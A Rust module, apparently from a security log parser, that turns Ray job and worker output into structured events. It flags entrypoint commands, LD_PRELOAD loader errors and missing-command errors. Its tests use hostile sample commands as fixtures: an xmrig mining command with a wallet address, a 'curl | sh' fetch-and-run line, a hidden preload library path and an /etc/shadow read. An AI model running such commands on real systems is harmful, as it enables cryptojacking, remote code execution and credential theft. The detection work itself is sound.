//! Raw process output: worker `.out`/`.err` (ray-logs.md §4.4), job
//! entrypoint output in `job-driver-*.log` (§4.6), component stdout/stderr.

use crate::fields::action as ra;
use crate::traceback;
use sightline_event::{Event, Outcome, action, field};

/// The marker lines Ray prints into worker output when the worker starts
/// work for a job, task or actor: `^:(job_id|task_name|actor_name):(.*)$`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Marker<'a> {
    Job(&'a str),
    Task(&'a str),
    Actor(&'a str),
}

pub fn marker(line: &str) -> Option<Marker<'_>> {
    let rest = line.strip_prefix(':')?;
    if let Some(v) = rest.strip_prefix("job_id:") {
        Some(Marker::Job(v))
    } else if let Some(v) = rest.strip_prefix("task_name:") {
        Some(Marker::Task(v))
    } else {
        rest.strip_prefix("actor_name:").map(Marker::Actor)
    }
}

pub const ENTRYPOINT: &str = "Running entrypoint for job ";

/// `Running entrypoint for job <submission id>: <command>` at the start of a line.
pub fn entrypoint(line: &str) -> Option<(&str, &str, &str)> {
    if line.starts_with(ENTRYPOINT) {
        entrypoint_anywhere(line)
    } else {
        None
    }
}

/// `Running entrypoint for job <submission id>: <command>`, possibly after
/// unterminated entrypoint output on the same line (the order of the two is
/// not guaranteed, §4.6). Returns (output before it, submission id, command).
pub fn entrypoint_anywhere(line: &str) -> Option<(&str, &str, &str)> {
    let i = memchr::memmem::find(line.as_bytes(), ENTRYPOINT.as_bytes())?;
    let rest = &line[i + ENTRYPOINT.len()..];
    let (sid, cmd) = rest.split_once(": ")?;
    if sid.is_empty() || sid.contains(char::is_whitespace) {
        return None;
    }
    Some((&line[..i], sid, cmd))
}

/// Fills an event for a raw output record (one line, or a traceback).
pub fn fill(ev: &mut Event, text: &str) {
    ev.message = text.to_owned();
    if traceback::apply(ev, text) {
        ev.add_type("error");
        ev.level = Some("error".into());
        return;
    }
    let first = text.split('\n').next().unwrap_or(text);
    if crate::python::classify_any(ev, first) {
        return;
    }
    if let Some(i) = first.find("ld.so: object '") {
        // `ERROR: ld.so: object '/tmp/.x/libhide.so' from LD_PRELOAD cannot be preloaded (...): ignored.`
        let rest = &first[i + "ld.so: object '".len()..];
        if let Some((path, tail)) = rest.split_once('\'') {
            ev.set(field::FILE_PATH, path);
            ev.set_action(ra::LIBRARY_PRELOAD);
            ev.add_category("process").add_type("error");
            ev.set(field::ERROR_MESSAGE, first);
            if tail.contains("LD_PRELOAD") {
                ev.label("preload_variable", "LD_PRELOAD");
            }
            ev.outcome = if tail.contains("cannot be preloaded") {
                Outcome::Failure
            } else {
                Outcome::Unknown
            };
        }
        return;
    }
    if let Some(cmd) = command_not_found(first) {
        ev.set(field::ERROR_MESSAGE, first);
        ev.set(field::ERROR_TYPE, "command not found");
        ev.label("missing_command", cmd);
        ev.add_category("process").add_type("error");
        ev.outcome = Outcome::Failure;
    }
}

/// `/bin/sh: 1: ./xmrig: not found`, `bash: line 1: foo: command not found`.
fn command_not_found(line: &str) -> Option<&str> {
    let head = line
        .strip_suffix(": not found")
        .or_else(|| line.strip_suffix(": command not found"))?;
    let (shell, rest) = head.split_once(": ")?;
    let shell_name = shell.rsplit('/').next().unwrap_or(shell);
    if !matches!(shell_name, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh") {
        return None;
    }
    let cmd = rest.rsplit(": ").next()?;
    (!cmd.is_empty()).then_some(cmd)
}

/// Fills an event for the entrypoint line of a job driver log.
pub fn fill_entrypoint(ev: &mut Event, before: &str, sid: &str, cmd: &str) {
    ev.message = format!("{ENTRYPOINT}{sid}: {cmd}");
    ev.set(field::RAY_JOB_SUBMISSION_ID, sid);
    ev.set(field::PROCESS_COMMAND_LINE, cmd);
    ev.set_action(action::PROCESS_STARTED);
    ev.add_category("process").add_type("start");
    ev.outcome = Outcome::Success;
    if !before.is_empty() {
        ev.label("preceding_output", before);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sightline_event::EventId;

    fn blank() -> Event {
        Event::new(
            EventId::derive("s", 0, b""),
            jiff::Timestamp::UNIX_EPOCH,
            "ray",
            "ray.job",
            "",
        )
    }

    #[test]
    fn markers() {
        assert_eq!(marker(":job_id:05000000"), Some(Marker::Job("05000000")));
        assert_eq!(
            marker(":task_name:read_sensitive"),
            Some(Marker::Task("read_sensitive"))
        );
        assert_eq!(marker(":actor_name:Crashy"), Some(Marker::Actor("Crashy")));
        assert_eq!(marker(":other:x"), None);
        assert_eq!(marker("job_id:1"), None);
    }

    #[test]
    fn entrypoints() {
        let l = "Running entrypoint for job raysubmit_7RZqETtwsLv2wH2A: ./xmrig -o stratum+tcp://127.0.0.1:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1 --threads 1";
        let (before, sid, cmd) = entrypoint(l).unwrap();
        assert_eq!((before, sid), ("", "raysubmit_7RZqETtwsLv2wH2A"));
        assert!(cmd.starts_with("./xmrig -o stratum+tcp://"));
        assert!(entrypoint("hiRunning entrypoint for job x: echo -n hi").is_none());
        let (before, sid, cmd) =
            entrypoint_anywhere("hiRunning entrypoint for job x: echo -n hi").unwrap();
        assert_eq!((before, sid, cmd), ("hi", "x", "echo -n hi"));
        assert!(entrypoint("Running entrypoint for job : x").is_none());
        assert!(entrypoint("Running entrypoint for job a b: x").is_none());
        let mut e = blank();
        fill_entrypoint(
            &mut e,
            "",
            "raysubmit_curlpipe_dev",
            "bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'",
        );
        assert_eq!(e.action.as_deref(), Some("process-started"));
        assert_eq!(
            e.get_str("process.command_line"),
            Some("bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'")
        );
    }

    #[test]
    fn shell_and_loader_errors() {
        let mut e = blank();
        fill(&mut e, "/bin/sh: 1: ./xmrig: not found");
        assert_eq!(e.get_str("labels.missing_command"), Some("./xmrig"));
        assert_eq!(e.outcome, Outcome::Failure);
        let mut e = blank();
        fill(
            &mut e,
            "ERROR: ld.so: object '/tmp/.x/libhide.so' from LD_PRELOAD cannot be preloaded (cannot open shared object file): ignored.",
        );
        assert_eq!(e.action.as_deref(), Some("library-preload"));
        assert_eq!(e.get_str("file.path"), Some("/tmp/.x/libhide.so"));
        let mut e = blank();
        fill(&mut e, "[sensitive-read] read /etc/shadow: 675 bytes");
        assert_eq!(e.message, "[sensitive-read] read /etc/shadow: 675 bytes");
        assert_eq!(e.action, None);
    }
}
